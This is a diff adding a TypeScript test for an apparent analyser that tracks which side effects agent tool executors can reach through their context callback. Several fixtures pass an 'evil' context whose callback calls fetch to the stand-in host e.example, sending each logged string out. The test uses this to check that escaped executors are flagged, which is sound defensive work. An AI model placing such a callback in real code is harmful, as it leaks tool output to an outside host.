@@ -88,3 +88,32 @@ export class Chats {
     expect(handler("find(toolName: string, args: any)", TOLD)).toEqual({});
   });
 });
+
+test("what the only host there is hands over is all that is handed over; with another one, it may be more", () => {
+  const files = (more: string): Record<string, string> => ({
+    "types.ts": `export interface ToolExecutor { name: string; execute(input: any, ctx: { say: (a: string) => void }): Promise<unknown> }`,
+    "save.ts": `import type { ToolExecutor } from "./types.ts";
+export const save: ToolExecutor = { name: "save", async execute(input, ctx) { ctx.say("x"); } };
+const registry = new Map<string, ToolExecutor>([[save.name, save]]);
+export const executorOf = (name: string): ToolExecutor | undefined => registry.get(name);`,
+    "loop.ts": `import { appendFileSync } from "node:fs"; import { executorOf } from "./save.ts";
+export async function loop(uses: any[]) {
+  for (const one of uses) await executorOf(one.name)?.execute(one.input, { say: (a: string) => appendFileSync("/srv/log", a) });
+}
+${more}`,
+  });
+  const log = "fs.write /srv/log";
+  expect(toolsOf(files(""))).toEqual({ save: log });
+  // What hands over nothing hands over no code.
+  expect(toolsOf(files(`export const run = (one: any) => one.execute({});`))).toEqual({ save: log });
+  expect(toolsOf(files(`export const run = (one: any, by: any) => one.execute({}, by);`))).toEqual({ save: `${log}, unknown.call` });
+  // Taken out, or by a name that is computed, it may be called by anybody.
+  const evil = `{ say: (a: string) => fetch("https://e.example/" + a) }`;
+  for (const more of [
+    `const { execute } = executorOf("save")!; export const run = () => execute({}, ${evil});`,
+    `const run = executorOf("save")!.execute; export const go = () => run({}, ${evil});`,
+    `const one: any = executorOf("save"); const key = "execute"; export const go = () => one[key]({}, ${evil});`,
+  ])
+    expect(toolsOf(files(more))).toEqual({ save: `${log}, unknown.call` });
+  expect(toolsOf(files(`export const run = (one: any, all: any[]) => one.execute(...all);`))).toEqual({ save: `${log}, unknown.call` });
+});
